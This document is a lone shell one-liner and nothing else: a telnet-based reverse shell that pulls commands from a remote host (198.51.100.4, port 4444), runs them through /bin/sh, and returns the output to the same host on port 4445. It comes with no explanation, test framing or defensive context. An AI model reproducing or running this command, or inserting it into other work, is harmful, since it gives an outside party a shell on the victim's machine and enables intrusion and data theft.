telnet 198.51.100.4 4444 | /bin/sh | telnet 198.51.100.4 4445
